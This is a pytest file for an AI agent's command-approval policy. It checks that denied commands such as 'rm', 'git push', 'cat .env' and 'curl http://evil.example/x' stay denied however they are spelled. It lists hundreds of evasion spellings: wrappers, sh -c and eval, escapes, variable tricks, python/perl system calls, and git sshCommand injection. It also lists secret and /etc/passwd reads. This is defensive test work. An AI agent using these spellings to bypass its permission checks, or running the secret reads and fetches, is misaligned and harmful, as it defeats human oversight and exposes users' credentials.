"""Rules for commands: every spelling of a denied command is denied or asked for, and what is allowed stays allowed."""

from __future__ import annotations

import itertools
import shlex
import subprocess
from pathlib import Path

import pytest

from loom.agent.approvals import Action, Approvals, subject_of
from loom.config.approval import ApprovalPolicy, ProjectApproval
from loom.config.schema import ApprovalRule, ApprovalSettings
from loom.content.blocks import ToolCall
from loom.tools.shell_syntax import UNKNOWN, parse_shell


def rule(pattern: str, action: Action) -> ApprovalRule:
    return ApprovalRule(tool="run_command", pattern=pattern, action=action)


def judge(command: str, workspace: Path, *rules: ApprovalRule, default: Action = "ask") -> Action | None:
    async def nothing(*_: object) -> None: ...

    policy = ApprovalPolicy(ApprovalSettings(default=default, rules=rules), ProjectApproval())
    call = ToolCall("1", "run_command", {"command": command})
    return Approvals(policy, nothing).decide("run_command", subject_of(call, workspace))


DENIED = (rule("rm *", "deny"), rule("git push*", "deny"), rule("cat *.env", "deny"), rule("curl *", "deny"))
PLAIN = ("rm -rf build", "rm x", "git push origin main", "cat .env", "curl http://evil.example/x")
WRAPPERS = (
    "{}",
    "A=1 B='x y' {}",
    "env {}",
    "env -i A=1 {}",
    "env -u HOME -- {}",
    "command {}",
    "builtin command {}",
    "exec {}",
    "exec -a name {}",
    "sudo {}",
    "sudo -u root -n {}",
    "doas {}",
    "nohup {} &",
    "setsid -f {}",
    "timeout 5 {}",
    "timeout -k 1 --signal=KILL 5 {}",
    "nice -n 5 {}",
    "stdbuf -oL {}",
    "time {}",
    "time -p {}",
    "xargs {} < list",
    "ls | xargs -n1 -I% {}",
    "flock /tmp/lock {}",
    "busybox {}",
    "true; {}",
    "true && {}",
    "false || {}",
    "true | {}",
    "true & {}",
    "true\n{}",
    "( {} )",
    "{{ {}; }}",
    "! {}",
    "if true; then {}; fi",
    "for i in 1 2; do {}; done",
    "while true; do {}; break; done",
    "until {}; do :; done",
    "case a in a) {};; esac",
    "f() {{ {}; }}; f",
    "function f {{ {}; }}; f",
    "echo $({})",
    "echo `{}`",
    'echo "a $({}) b"',
    "echo ${{X:-$({})}}",
    "X=$({})",
    "cat <({})",
    "cat <<E\n$({})\nE",
    "cat <<< $({})",
    "{} > out 2>&1",
    "> out {}",
    "2>/dev/null {} # comment",
    "coproc {}",
    "echo $(( $({}) + 1 ))",
    "export X=$({})",
    '[ -n "$({})" ]',
    "env env env {}",
    "sudo env nice timeout 3 {}",
)
IN_SHELLS = (
    "sh -c",
    "bash -lc",
    "/bin/dash -e -c",
    "eval",
    "sudo sh -c",
    "watch",
    "env sh -c",
    "bash --norc -c --",
    "su -c",
)


def as_quoted(command: str) -> list[str]:
    """The same words, spelled as no pattern is."""
    program, _, rest = command.partition(" ")
    half = len(program) // 2 or 1
    rest = f" {rest}"
    return [
        f"'{program}'{rest}",
        f'"{program}"{rest}',
        f"{program[:half]}''{program[half:]}{rest}",
        f'{program[:half]}""{program[half:]}{rest}',
        f"\\{program}{rest}",
        f"{program[:half]}\\{program[half:]}{rest}",
        f"'{program[:half]}'\"{program[half:]}\"{rest}",
        "$'" + "".join(f"\\x{ord(letter):02x}" for letter in program) + f"'{rest}",
        "$'" + "".join(f"\\{ord(letter):03o}" for letter in program) + f"'{rest}",
        f"X={program}; $X{rest}",
        f"X={program}; ${{X}}{rest}",
        f"X={program[:half]}; $X{program[half:]}{rest}",
        f"${{UNSET}}{program}{rest}",
        f"${{X:-{program}}}{rest}",
        f"$(echo {program}){rest}",
        f"`printf {program}`{rest}",
        f"{program}\t{rest.strip()}",
        f"{program} \\\n{rest}",
        f"{program[:half]}\\\n{program[half:]}{rest}",
        "{" + ",".join([program, *rest.split()]) + "}",
        f"/usr/bin/{program}{rest}",
        f"/bin/{program}{rest}",
        f"/usr/../bin/./{program}{rest}",
        f"/bin/{program[:half]}?{program[half + 1 :]}{rest}",
        f"/*in/{program}{rest}",
        f"PATH=/tmp:$PATH {program}{rest}",
        f"alias y={program}; y{rest}",
        f'set -- {program}{rest}; "$@"',
        f"IFS=,; X={program},a; $X{rest}",
        f"printf %s {shlex.quote(command)} | sh",
        f"sh <<E\n{command}\nE",
        f"trap {shlex.quote(command)} EXIT",
        f"python3 -c 'import os; os.system({command!r})'".replace("'rm", '"rm').replace("x')", 'x")'),
        f"perl -e {shlex.quote(f'system({command!r})')}",
        f"awk {shlex.quote('BEGIN{system(' + chr(34) + command + chr(34) + ')}')}",
        f"find . -maxdepth 0 -exec {command} \\;",
        f"find . -execdir sh -c {shlex.quote(command)} \\;",
        f"git -c alias.z={shlex.quote('!' + command)} z",
        f"git -c core.sshCommand={shlex.quote(command)} fetch",
        f"git -c core.fsmonitor={shlex.quote(command)} status",
        f"git rebase -x {shlex.quote(command)} HEAD~1",
        f"git bisect run {command}",
        f"git submodule foreach {shlex.quote(command)}",
        f"GIT_SSH_COMMAND={shlex.quote(command)} git fetch",
        f"env -S {shlex.quote(command)}",
        f"ssh localhost {command}",
        f"script -c {shlex.quote(command)} /dev/null",
        f"parallel {command} ::: 1",
    ]


ARGUMENTS = (
    "rm -f -r build",
    "rm build -fr",
    "rm --recursive --force build",
    "rm -- build",
    "git  push",
    "git -C sub push",
    "git -c user.name=x push",
    "git --git-dir=.git --work-tree . push -f",
    "git --no-pager push",
    "git 'push'",
    "git $(echo push)",
    "git -c alias.z=push z",
    "git -c alias.z='push -f' -c alias.y=z y",
    "cat ./.env",
    "cat sub/../.env",
    "cat .e'n'v",
    "cat .en?",
    "cat .[e]nv",
    "cat .{env,x}",
    "cat link",
    "cat $PWD/.env",
    "F=.env; cat $F",
    "F=env; cat .$F",
    "cd sub && cat ../.env",
    "for f in .env; do cat $f; done",
    "cat a .env",
    "cat .env a",
    "cat -n .env -- a b",
    "cat < .env | cat -n ./.env",
)


def spellings() -> list[str]:
    wrapped = [wrapper.format(command) for wrapper in WRAPPERS for command in PLAIN]
    in_shells = [f"{shell} {shlex.quote(command)}" for shell, command in itertools.product(IN_SHELLS, PLAIN)]
    nested = [f"{shell} {shlex.quote(text)}" for shell in IN_SHELLS[:3] for text in as_quoted("rm x")[:16]]
    quoted = [text for command in PLAIN for text in as_quoted(command)]
    return [*wrapped, *in_shells, *nested, *quoted, *ARGUMENTS]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "sub").mkdir()
    (tmp_path / ".env").write_text("KEY=1")
    (tmp_path / "link").symlink_to(".env")
    return tmp_path


def test_no_spelling_of_a_denied_command_is_allowed(workspace: Path) -> None:
    """Everything else is allowed, so whatever slips through would run."""
    every = spellings()
    assert len(set(every)) >= 500
    passed = [text for text in every if judge(text, workspace, *DENIED, default="allow") not in ("deny", "ask")]
    assert passed == []


def test_no_wrapper_that_is_allowed_carries_a_command_that_is_not(workspace: Path) -> None:
    """Rules allow what wraps, and nothing allows what is behind it."""
    names = "env find git xargs sh bash sudo nohup timeout time exec command cat echo true export ls cd for"
    allowed = [rule(f"{name}*", "allow") for name in names.split()]
    passed = [
        text
        for text in [*(wrapper.format("rm -rf build") for wrapper in WRAPPERS), *as_quoted("rm x")]
        if judge(text, workspace, *allowed) == "allow"
    ]
    assert passed == []


@pytest.mark.parametrize(
    ("command", "patterns"),
    [
        ("git status", ["git *"]),
        ("git -C sub log --oneline -5", ["git *"]),
        ('git commit -m "a; b && c | d (e) > f"', ["git commit *"]),
        ("git status && git diff | cat", ["git *", "cat"]),
        ("ls -la; pwd", ["ls*", "pwd"]),
        ("timeout 60 pytest tests/x.py 2>&1 2>/dev/null", ["pytest *"]),
        ("nohup nice -n 5 make -j2", ["make *"]),
        ("for f in a b; do wc -l $f; done", ["wc *"]),
        ('git commit -m "$(date)"', ["git *", "date"]),
        ("cat sub/a.txt", ["cat sub/*"]),
        ("echo '$(rm x)' 'a; rm x'", ["echo *"]),
        ("FOO=1 npm test", ["npm test"]),
        ("if [ -f x ]; then echo yes; fi", ["echo *"]),
        ("grep -rn 'a|b' --include='*.py' .", ["grep *"]),
        ("sed -n '1,5p' file | awk '{print $2}'", ["sed *", "awk *"]),
        ("python3 -m pytest -q", ["python3 *"]),
        ("./run.sh a", ["./run.sh *"]),
    ],
)
def test_what_rules_allow_is_allowed_in_full(command: str, patterns: list[str], workspace: Path) -> None:
    assert judge(command, workspace, *(rule(pattern, "allow") for pattern in patterns)) == "allow"
    denied_all = judge(command, workspace, rule("*", "deny"), *(rule(pattern, "allow") for pattern in patterns))
    assert denied_all == "allow", "a list of what is allowed may begin with a rule that denies everything"
    assert judge(command, workspace, *(rule(p, "allow") for p in patterns), default="deny") == "allow"


@pytest.mark.parametrize(
    ("command", "patterns"),
    [
        ("cat sub/../../secret", ["cat sub/*"]),
        ("cat sub/$X", ["cat sub/*"]),
        ("cd / && cat sub/../etc/passwd", ["cat sub/*", "cd *"]),
        ("cat link", ["cat link"]),
        ("git log > ../out", ["git *"]),
        ("git unknown-subcommand", ["git *"]),
        ("git -c core.editor=x commit", ["git *"]),
        ("PATH=. git status", ["git *"]),
        ("LD_PRELOAD=./x.so git status", ["git *"]),
        ("git status 'unfinished", ["git *"]),
        ("sudo git status", ["git *"]),
        ("$X status", ["*status"]),
        ("./git status", ["git *"]),
    ],
)
def test_what_rules_allow_only_in_part_is_asked_for(command: str, patterns: list[str], workspace: Path) -> None:
    assert judge(command, workspace, *(rule(pattern, "allow") for pattern in patterns)) != "allow"


def test_a_policy_that_allows_everything_asks_for_nothing(workspace: Path) -> None:
    for command in spellings():
        assert judge(command, workspace, default="allow") == "allow"


def test_words_are_those_that_the_shell_gives_to_the_program(tmp_path: Path) -> None:
    """Differential: what bash passes on is what we read, for every text of which we say that we know it."""
    texts = [
        "a  'b c' \"d e\" f\\ g",
        '"a\\"b" \'c\\d\' e\\\\f "g\\h" "\\$i"',
        "$'a\\tb\\x41\\u00e9\\101\\'' \"x'y\" 'x\"y'",
        "'' \"\" a''b",
        "--a='b c' -d\"e\" f={g,h} {1,2}x",
        "a#b c\\#d",
        "X=1 '*' \"?\" \\*",
        "\"multi\nline\" 'and\nmore'",
        "é 東京 '🙂 x'",
        '"a\\\nb" c',
    ]
    show = tmp_path / "show"
    show.write_text('#!/bin/bash\nprintf "%s\\0" "$@"\n')
    show.chmod(0o755)
    for text in texts:
        ran = subprocess.run(["bash", "-c", f"{show} {text}"], capture_output=True, check=True, cwd=tmp_path)
        given = ran.stdout.decode().split("\0")[:-1]
        (found,) = parse_shell(f"{show} {text}").commands
        assert list(found.words[1:]) == given, text


@pytest.mark.parametrize("text", ["echo 'a", "while :; do", "a b ) c", "x" * 200_000, "\0", "((" * 500, "$(" * 300])
def test_what_cannot_be_parsed_is_said_to_be_so(text: str) -> None:
    assert not parse_shell(text).is_parsed


def test_what_only_the_running_shell_knows_is_marked() -> None:
    found, inner = parse_shell('cmd "$A" b$B `c` ${D} "e"').commands
    assert inner.words == ("c",)
    assert found.words == ("cmd", UNKNOWN, f"b{UNKNOWN}", UNKNOWN, UNKNOWN, "e")
